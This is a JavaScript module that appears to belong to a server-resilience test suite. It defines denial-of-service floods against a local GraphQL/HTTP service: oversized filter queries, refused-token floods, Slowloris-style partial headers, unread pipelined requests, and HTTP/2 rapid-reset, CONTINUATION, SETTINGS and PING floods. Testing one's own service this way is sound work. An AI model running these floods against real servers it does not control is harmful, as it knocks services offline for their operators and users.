// Many requests that cost little or nothing: refusals, probes, documents, keys, and frames of HTTP/2.
import { setTimeout as sleep } from "node:timers/promises";
import {
  BAD_TOKEN, JSON_HEADERS, connection, flood, http2Frame, loop, rawHttp2, repeat, requestText, send,
} from "./client.mjs";

const CONNECTIONS = 32;
const post = (query, variables, headers = {}) =>
  ({ headers: { ...JSON_HEADERS, ...headers }, body: JSON.stringify({ query, variables }) });

const conditions = (w) =>
  JSON.stringify({ query: "query($w: StepFilter) { steps(first: 1, where: $w) { totalCount } }", variables: { w } });
const WRONG = conditions({ or: repeat(67_000, () => ({ hidden: 1 })) });
const OR = conditions({ or: repeat(70_000, () => ({ or: [] })) });
const IN = conditions({ stepid: { in: repeat(150_000, (i) => i) } });
const document = (i) => `{ ${repeat(300, (n) => `a${i}x${n}: __typename`).join(" ")} }`;
const wrong = (i) => `{ ${repeat(1_900, (n) => `w${i}x${n}`).join(" ")} }`;

// The header block of a POST to /graphql: static table entries and literals without an index.
const literal = (prefix, text) => Buffer.concat([Buffer.from([...prefix, text.length]), Buffer.from(text)]);
const HEADERS = Buffer.concat([
  Buffer.from([0x83, 0x86]), literal([0x04], "/graphql"), literal([0x01], "127.0.0.1"), literal([0x0f, 0x10], "application/json"),
]);
const BODY = Buffer.from('{"query":"{ builds(first: 1) { nodes { number } } }"}');
const CANCEL = Buffer.from([0, 0, 0, 8]);
const reset = (stream) => Buffer.concat([
  http2Frame(1, 4, stream, HEADERS), http2Frame(0, 1, stream, BODY), http2Frame(3, 0, stream, CANCEL),
]);

// Frames on connections that read nothing, or everything.
async function frames({ origin, tally, hold }, make, { connections = 20, reads = false } = {}) {
  await Promise.all(repeat(connections, async () => {
    const socket = await rawHttp2(origin);
    socket.on("close", () => tally.add("closed"));
    if (reads) socket.resume();
    await flood(socket, hold + 2_000, make());
  }));
}

const attack = (name, run, more = {}) => ({ name: `floods: ${name}`, shape: "small", run, ...more });
const looped = (name, make, more) => attack(name, ({ origin, tally, hold }) => loop(origin, tally, CONNECTIONS, hold + 2_000, make), more);

export default [
  looped("filters of 67,000 wrong conditions", () => ({ headers: JSON_HEADERS, body: WRONG }), { threaded: true }),
  looped("filters of 70,000 conditions", () => ({ headers: JSON_HEADERS, body: OR }), { threaded: true }),
  looped("lists of 150,000 values", () => ({ headers: JSON_HEADERS, body: IN }), { threaded: true }),
  looped("GET with a long query", (i) => ({ path: `/graphql?query=${encodeURIComponent(document(i))}` })),
  looped("documents, each another", (i) => post(document(i))),
  looped("documents with 1,900 errors", (i) => post(wrong(i))),
  looped("idempotency keys", (i) =>
    post(`mutation { setBuildStateString(buildid: 2, stateString: "s") { build { number } } }`, {}, { "Idempotency-Key": `"key-${i}"` }),
  { flags: ["--anonymous", "write"], copies: true }),
  looped("refused tokens on /metrics", () => ({ path: "/metrics", headers: BAD_TOKEN })),
  looped("refused tokens on /api", () => ({ path: "/api/v2/builds?limit=1", headers: BAD_TOKEN })),
  looped("another refused token each time", (i) =>
    ({ path: "/metrics", headers: { Authorization: `Bearer bbg_${i.toString(16).padStart(64, "0")}` } })),
  looped("/metrics", () => ({ path: "/metrics" })),
  looped("/readyz", () => ({ path: "/readyz" })),
  looped("operations of one point", () => post("{ builds(first: 1) { nodes { number } } }")),
  attack("connections that say nothing more than a part of a head", async ({ origin, tally, hold }) => {
    const sockets = await Promise.all(repeat(900, () => connection(origin)));
    const part = `GET /graphql HTTP/1.1\r\nHost: x\r\nX: ${"x".repeat(8_000)}`;
    for (const socket of sockets) {
      socket.on("close", () => tally.add("closed"));
      socket.write(part);
    }
    for (const _ of repeat(Math.ceil(hold / 1_000), () => 0)) {
      await sleep(1_000);
      for (const socket of sockets) socket.write("x");
    }
  }),
  attack("connections, opened and closed", async ({ origin, tally, hold }) => {
    const end = Date.now() + hold + 2_000;
    await Promise.all(repeat(CONNECTIONS, async () => {
      while (Date.now() < end) {
        const socket = await connection(origin);
        socket.destroy();
        tally.add("opened");
      }
    }));
  }),
  attack("requests of /healthz, pipelined and not read", async ({ origin, tally, hold }) => {
    const part = requestText("GET", "/healthz", {}).repeat(500);
    await Promise.all(repeat(60, async () => {
      const socket = await connection(origin);
      socket.on("close", () => tally.add("closed"));
      await flood(socket, hold, () => part);
    }));
  }),
  attack("a head over HTTP/1.1 that does not end", async ({ origin, tally, hold }) => {
    await Promise.all(repeat(60, async () => {
      const socket = await connection(origin);
      socket.on("close", () => tally.add("closed"));
      await send(socket, "GET / HTTP/1.1\r\n");
      await flood(socket, hold, () => `X: ${"x".repeat(10_000)}\r\n`);
    }));
  }),
  attack("HTTP/2 rapid reset", (on) => frames(on, () => {
    let stream = -1;
    return () => Buffer.concat(repeat(100, () => reset(stream += 2)));
  })),
  attack("HTTP/2 rapid reset, read", (on) => frames(on, () => {
    let stream = -1;
    return () => Buffer.concat(repeat(100, () => reset(stream += 2)));
  }, { reads: true })),
  attack("HTTP/2 CONTINUATION that does not end", (on) => frames(on, () => {
    let first = true;
    return () => {
      const block = repeat(100, (i) => literal([0x00, 4], `x${String(i).padStart(3, "0")}`)).map((name) => Buffer.concat([name.subarray(0, 1), name.subarray(1), literal([], "v".repeat(100))]));
      const frame = http2Frame(first ? 1 : 9, 0, 1, Buffer.concat(first ? [HEADERS, ...block] : block));
      first = false;
      return frame;
    };
  })),
  attack("HTTP/2 SETTINGS", (on) => frames(on, () => () => Buffer.concat(repeat(500, () => http2Frame(4, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255])))))),
  attack("HTTP/2 PING", (on) => frames(on, () => () => Buffer.concat(repeat(500, () => http2Frame(6, 0, 0, Buffer.alloc(8)))))),
  attack("HTTP/2 empty DATA", (on) => frames(on, () => {
    let opened = false;
    return () => {
      const empty = Buffer.concat(repeat(500, () => http2Frame(0, 0, 1, Buffer.alloc(0))));
      if (opened) return empty;
      opened = true;
      return Buffer.concat([http2Frame(1, 4, 1, HEADERS), empty]);
    };
  })),
];
